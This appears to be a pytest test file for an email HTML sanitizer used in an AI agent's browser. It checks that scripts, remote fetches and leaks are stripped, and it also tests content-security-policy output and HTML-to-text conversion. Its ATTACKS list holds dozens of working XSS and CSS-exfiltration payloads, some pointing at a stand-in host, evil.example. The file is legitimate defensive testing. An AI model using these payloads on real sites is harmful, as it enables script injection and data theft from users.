"""Mallory's HTML in an agent's browser: nothing of it runs, calls home, or leaves its frame."""

from html.parser import HTMLParser

import pytest

from channels_integrations.email.html_text import html_to_text
from core.html import BLOCKED_IMAGE, MAX_HTML, clean, document, has_remote_images, is_too_much

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/p.gif' onload=alert(1)>",
    "<img/src=javascript:alert(1)>",
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="http://evil.example/a 1x">',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<a href=vbscript:x>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=/api/v1/session>x</a>",
    '<a href="https://ok.example" target=_top onclick=alert(1)>x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<video src=http://evil.example/v onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=http://evil.example/a autoplay></audio>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=prefetch href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example)}</style>",
    "<style>input[value^=a]{background:url(http://evil.example/a)}</style>",
    "<p style='background:url(http://evil.example/p)'>x</p>",
    "<p style='background-image:image-set(\"http://evil.example\" 1x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(http://evil.example#x)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='background:\\75\\72\\6c(http://evil.example)'>x</p>",
    "<p style='background:u/**/rl(http://evil.example)'>x</p>",
    "<p style='color:red;position:fixed;top:0;left:0;z-index:9'>x</p>",
    "<p style='color:var(--x);content:attr(x)'>x</p>",
    "<p id=location name=cookie class=btn data-x=1 contenteditable accesskey=x tabindex=0 slot=x is=x>x</p>",
    "<table background=http://evil.example/t><tr><td background=http://evil.example/d>x</table>",
    "<body background=http://evil.example/b onload=alert(1)>x</body>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<p/onclick=alert(1)/title=x>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<a href='https://ok.example' ping='https://evil.example'>x</a>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]
ALLOWED = {"style", "dir", "lang", "title", "href", "src", "alt", "target", "rel", "width", "height", "border", "align"}


class Audit(HTMLParser):
    """Collects whatever could run or fetch."""

    def __init__(self) -> None:
        super().__init__()
        self.live: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "svg",
            "math",
            "form",
            "input",
            "link",
            "meta",
            "base",
        }:
            self.live.append(tag)
        for name, value in attrs:
            self.look(tag, name, (value or "").lower())

    def look(self, tag: str, name: str, value: str) -> None:
        is_url = name in ("href", "src")
        if name not in ALLOWED or (is_url and not value.startswith(("https://ok.example", BLOCKED_IMAGE.lower()))):
            self.live.append(f"{tag} {name}={value}")
        if name == "style" and any(word in value for word in ("url", "(", "\\", "position", "evil", "@", "/*")):
            self.live.append(f"style {value}")


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "<div><p>{}", "<table><td>{}</td></table>", "<b>{}<b>{}"])
def test_nothing_live_is_left(attack: str, around: str) -> None:
    audit = Audit()
    audit.feed(clean(around.replace("{}", attack)))
    assert audit.live == []


def test_what_people_write_stays() -> None:
    written = '<p style="color:#c00;margin:0 0 8px">Hello <b>Ana</b>, <a href="https://ok.example/?a=1">look</a></p><ul><li>one</li></ul>'
    kept = clean(written)
    assert '<p style="color:#c00;margin:0 0 8px">Hello <b>Ana</b>' in kept
    assert 'href="https://ok.example/?a=1"' in kept
    assert 'rel="noopener noreferrer nofollow"' in kept
    assert "<ul><li>one</li></ul>" in kept


def test_remote_images_wait_for_the_agent_and_attached_ones_do_not() -> None:
    written = '<img src="http://pixel.example/p.gif"><img src="cid:lamp@x"><img src="cid:missing">'
    held = clean(written, images={"lamp@x": "data:image/png;base64,AAAA"})
    assert "pixel.example" not in held
    assert held.count(BLOCKED_IMAGE) == 2
    assert 'src="data:image/png;base64,AAAA"' in held
    assert 'src="http://pixel.example/p.gif"' in clean(written, allow_images=True)
    assert has_remote_images(written)
    assert not has_remote_images('<img src="cid:lamp@x"> http://ok.example')


def test_the_page_forbids_what_the_list_might_miss() -> None:
    page = document("<p>x</p>")
    assert "default-src 'none'; img-src data:; style-src 'unsafe-inline'" in page
    assert "<p>x</p>" in page
    assert "img-src data: https: http:;" in document("x", allow_images=True)


@pytest.mark.parametrize(
    "heavy",
    ["<div>" * 20_000, "<p><b>" * 20_000, "".join(f"<p><font size={n}>" for n in range(20_000)), "&" * 200_000,
     "x" * (MAX_HTML + 1)],
)  # fmt: skip
def test_what_would_cost_seconds_is_shown_as_text(heavy: str) -> None:
    assert is_too_much(heavy)
    assert clean(heavy + "<script>alert(1)</script>").startswith("<pre>")
    assert "<script" not in clean(heavy + "<script>alert(1)</script>")


def test_ordinary_long_mail_is_not_too_much() -> None:
    row = "<tr><td><table><tr><td><p>A line<br>and <b>more</b></td></tr></table></td></tr>"
    assert not is_too_much(f"<html><body><table>{row * 3_000}</table></body></html>")
    assert not is_too_much("<p>paragraph" * 20_000)


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One</p><p>Two</p>", "One\n\nTwo"),
        ("One<br>Two<br/>Three", "One\nTwo\nThree"),
        ("<div>One</div><div>Two</div>", "One\nTwo"),
        ("<ul><li>One<li>Two</ul>", "- One\n- Two"),
        ("<table><tr><td>A</td><td>B</td></tr><tr><td>C</td></tr></table>", "A B\nC"),
        ("Hi<blockquote>old<br>words<blockquote>older</blockquote></blockquote>", "Hi\n\n> old\n> words\n>\n> > older"),
        ("a &lt;b&gt; &amp; &euro;&nbsp;c", "a <b> & € c"),
        ("<style>p{}</style><script>x</script><head><title>t</title></head>Hi", "Hi"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ('<img alt="lamp" src=x> <img src=y alt="">', "[lamp]"),
        ('<a href="x" title="a > b">link</a>', "link"),
        ("<!-- no --><![if x]>yes<![endif]>", "yes"),
        ("", ""),
    ],
)
def test_html_reads_as_text(html: str, text: str) -> None:
    assert html_to_text(html) == text
